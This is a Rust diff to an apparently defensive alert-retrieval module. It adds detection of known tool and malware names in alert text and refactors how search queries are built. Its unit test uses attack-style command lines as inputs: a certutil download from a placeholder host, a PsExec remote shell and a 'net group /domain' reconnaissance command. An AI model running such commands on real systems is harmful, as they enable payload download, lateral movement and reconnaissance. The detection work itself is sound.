@@ -12,12 +12,22 @@ use tantivy::tokenizer::TokenStream;
 use crate::alert::Alert;
 
 /// Terms kept per query: enough for a rich alert, few enough that noise can't dominate.
-const MAX_TERMS: usize = 96;
-const TITLE_BOOST: f32 = 2.0;
-const KEYWORDS_BOOST: f32 = 1.5;
+pub(super) const MAX_TERMS: usize = 96;
+pub(super) const TITLE_BOOST: f32 = 2.0;
+pub(super) const KEYWORDS_BOOST: f32 = 1.5;
 const TECHNIQUE_BOOST: f32 = 2.5;
 /// Expansion terms must outweigh the incidental word overlap of technique prose.
 const EXPANSION_BOOST: f32 = 12.0;
+
+/// The fields a query runs against: text fields with their boosts, the techniques field,
+/// and which of the alerts' terms to use.
+pub(super) struct SearchFields {
+    pub text: Vec<(Field, f32)>,
+    /// Where technique tags and expansions are matched; `None` to ignore them.
+    pub techniques: Option<Field>,
+    /// At most this many terms, the heaviest.
+    pub max_terms: usize,
+}
 
 /// Text parts with their weights, before tokenisation.
 #[derive(Debug, Clone, Default)]
@@ -25,6 +35,9 @@ pub struct AlertQuery {
     parts: Vec<(String, f32)>,
     techniques: Vec<String>,
     expansion: Vec<String>,
+    /// The weighted terms of `parts`, heaviest first: tokenised once per query, however
+    /// many kinds are searched with it.
+    terms: std::sync::OnceLock<Vec<(String, f32)>>,
 }
 
 impl AlertQuery {
@@ -69,14 +82,25 @@ impl AlertQuery {
         &self.techniques
     }
 
+    /// The same text without the sender's technique tags: for documents that carry many
+    /// techniques each (software), where a tag would lift hundreds alike.
+    pub fn without_techniques(&self) -> AlertQuery {
+        AlertQuery { techniques: Vec::new(), expansion: Vec::new(), ..self.clone() }
+    }
+
     /// Techniques suggested by other retrieved documents, weighted above plain text.
     pub fn with_expansion(mut self, ids: &[String]) -> AlertQuery {
         self.expansion = ids.to_vec();
         self
     }
 
-    pub(super) fn to_query(&self, index: &Index, title: Field, body: Field, keywords: Field, techniques: Field) -> Option<Box<dyn Query>> {
-        let mut analyzer = index.tokenizers().get(super::TOKENIZER)?;
+    /// The weighted terms of the text parts, heaviest first (ties in order of appearance),
+    /// at most [`MAX_TERMS`].
+    fn terms(&self, index: &Index) -> &[(String, f32)] {
+        if let Some(t) = self.terms.get() {
+            return t;
+        }
+        let Some(mut analyzer) = index.tokenizers().get(super::TOKENIZER) else { return &[] };
         let mut weights: HashMap<String, (f32, usize)> = HashMap::new();
         let mut order = 0usize;
         for (text, weight) in &self.parts {
@@ -95,14 +119,73 @@ impl AlertQuery {
         let mut terms: Vec<(String, f32, usize)> = weights.into_iter().map(|(t, (w, o))| (t, w, o)).collect();
         terms.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.2.cmp(&b.2)));
         terms.truncate(MAX_TERMS);
+        self.terms.get_or_init(|| terms.into_iter().map(|(t, w, _)| (t, w)).collect())
+    }
 
+    /// Software names among the alerts' words: runs of one to four words joined the way
+    /// [`crate::attack::normalize_software_name`] joins them (`Cobalt Strike` →
+    /// `cobaltstrike`, `C:\Tools\PsExec.exe` → `psexec`), kept when `names` holds them,
+    /// weighted like terms. A run inside a domain, an e-mail address or a dotted name
+    /// (`example.net`, `net@corp`, `.NET`) is no software name; one followed by `.exe` is.
+    /// Names held as `plain:<name>` (malware named by an ordinary word) count only where
+    /// written as a name: capitalised, after a path separator, before `.exe`, or first in
+    /// a field.
+    pub(super) fn software_names(&self, names: &std::collections::HashSet<String>, longest: usize) -> Vec<(String, f32)> {
+        let mut weights: HashMap<String, (f32, usize)> = HashMap::new();
+        let mut order = 0usize;
+        for (text, weight) in &self.parts {
+            let words = word_spans(text);
+            for i in 0..words.len() {
+                let before = text[..words[i].0].chars().next_back();
+                if matches!(before, Some('.' | '@')) {
+                    continue;
+                }
+                let first = text[words[i].0..].chars().next().is_some_and(char::is_uppercase)
+                    || matches!(before, Some('\\' | '/'))
+                    || (i == 0 && text[..words[0].0].chars().all(|c| c.is_whitespace() || matches!(c, '"' | '\'')));
+                let mut joined = String::new();
+                for &(start, end) in words.iter().skip(i).take(4) {
+                    joined.push_str(&text[start..end].to_lowercase());
+                    if joined.len() > longest {
+                        break;
+                    }
+                    let rest = &text[end..];
+                    if joined.len() < 3 || joined.bytes().all(|b| b.is_ascii_digit()) || !ends_a_name(rest) {
+                        continue;
+                    }
+                    let term = if names.contains(&joined) {
+                        joined.clone()
+                    } else {
+                        let plain = format!("plain:{joined}");
+                        let exe = rest.get(..4).is_some_and(|e| e.eq_ignore_ascii_case(".exe"));
+                        if !(names.contains(&plain) && (first || exe)) {
+                            continue;
+                        }
+                        plain
+                    };
+                    let e = weights.entry(term).or_insert((0.0, order));
+                    order += 1;
+                    e.0 = if e.0 == 0.0 { *weight } else { e.0 + weight * 0.25 };
+                }
+            }
+        }
+        let mut out: Vec<(String, f32, usize)> = weights.into_iter().map(|(t, (w, o))| (t, w, o)).collect();
+        out.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.2.cmp(&b.2)));
+        out.into_iter().map(|(t, w, _)| (t, w)).collect()
+    }
+
+    pub(super) fn to_query(&self, index: &Index, fields: &SearchFields) -> Option<Box<dyn Query>> {
+        let terms = self.terms(index).iter().take(fields.max_terms);
         let mut clauses: Vec<(Occur, Box<dyn Query>)> = Vec::new();
-        for (t, w, _) in &terms {
-            for (field, boost) in [(title, TITLE_BOOST), (body, 1.0), (keywords, KEYWORDS_BOOST)] {
+        for (t, w) in terms {
+            for &(field, boost) in &fields.text {
                 let tq = TermQuery::new(Term::from_field_text(field, t), IndexRecordOption::WithFreqs);
                 clauses.push((Occur::Should, Box::new(BoostQuery::new(Box::new(tq), w * boost))));
             }
         }
+        let Some(techniques) = fields.techniques else {
+            return (!clauses.is_empty()).then(|| Box::new(BooleanQuery::new(clauses)) as Box<dyn Query>);
+        };
         for id in &self.techniques {
             let tq = TermQuery::new(Term::from_field_text(techniques, id.trim()), IndexRecordOption::Basic);
             clauses.push((Occur::Should, Box::new(BoostQuery::new(Box::new(tq), TECHNIQUE_BOOST))));
@@ -112,6 +195,41 @@ impl AlertQuery {
             clauses.push((Occur::Should, Box::new(BoostQuery::new(Box::new(tq), EXPANSION_BOOST))));
         }
         (!clauses.is_empty()).then(|| Box::new(BooleanQuery::new(clauses)) as Box<dyn Query>)
+    }
+}
+
+/// Byte spans of the runs of letters and digits in `text`.
+fn word_spans(text: &str) -> Vec<(usize, usize)> {
+    let mut out = Vec::new();
+    let mut start: Option<usize> = None;
+    for (i, c) in text.char_indices() {
+        match (c.is_alphanumeric(), start) {
+            (true, None) => start = Some(i),
+            (false, Some(s)) => {
+                out.push((s, i));
+                start = None;
+            }
+            _ => {}
+        }
+    }
+    if let Some(s) = start {
+        out.push((s, text.len()));
+    }
+    out
+}
+
+/// Whether what follows a run of words lets it be a whole name: not the local part of an
+/// e-mail address, not a label of a dotted name unless that is `.exe`.
+fn ends_a_name(rest: &str) -> bool {
+    let mut chars = rest.chars();
+    match chars.next() {
+        Some('@') => false,
+        Some('.') => {
+            let tail = chars.as_str();
+            tail.get(..3).is_some_and(|e| e.eq_ignore_ascii_case("exe")) && !tail[3..].chars().next().is_some_and(char::is_alphanumeric)
+                || !tail.chars().next().is_some_and(char::is_alphanumeric)
+        }
+        _ => true,
     }
 }
 
@@ -145,6 +263,28 @@ fn split_camel(s: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn software_names_are_found_whole_and_not_inside_addresses() {
+        let names: std::collections::HashSet<String> =
+            ["psexec", "cobaltstrike", "net", "certutil", "agentbtz", "elise", "plain:page"].map(String::from).into();
+        let found = |text: &str| {
+            let q = AlertQuery::from_text(text);
+            let mut v: Vec<String> = q.software_names(&names, 20).into_iter().map(|(n, _)| n).collect();
+            v.sort();
+            v
+        };
+        assert_eq!(found(r"C:\Tools\PsExec.exe \\host -s cmd"), ["psexec"]);
+        assert_eq!(found("Cobalt Strike beacon; net group /domain"), ["cobaltstrike", "net"]);
+        assert_eq!(found("CERTUTIL.EXE -urlcache -f http://x/a"), ["certutil"]);
+        assert_eq!(found("agent.btz on a USB stick"), ["agentbtz"]);
+        assert!(found("hana.park@globex.example.net, ASP.NET, elise@corp.example, elise.doe").is_empty());
+        assert!(found("networking certutils").is_empty());
+        // A plain word stands for malware only where written as a name.
+        assert!(found("Click permitted to credential phishing page").is_empty());
+        assert_eq!(found("Page backdoor beacon"), ["plain:page"]);
+        assert_eq!(found(r"C:\Temp\page.exe"), ["plain:page"]);
+    }
 
     #[test]
     fn splits_camel_case_and_filters_noise() {
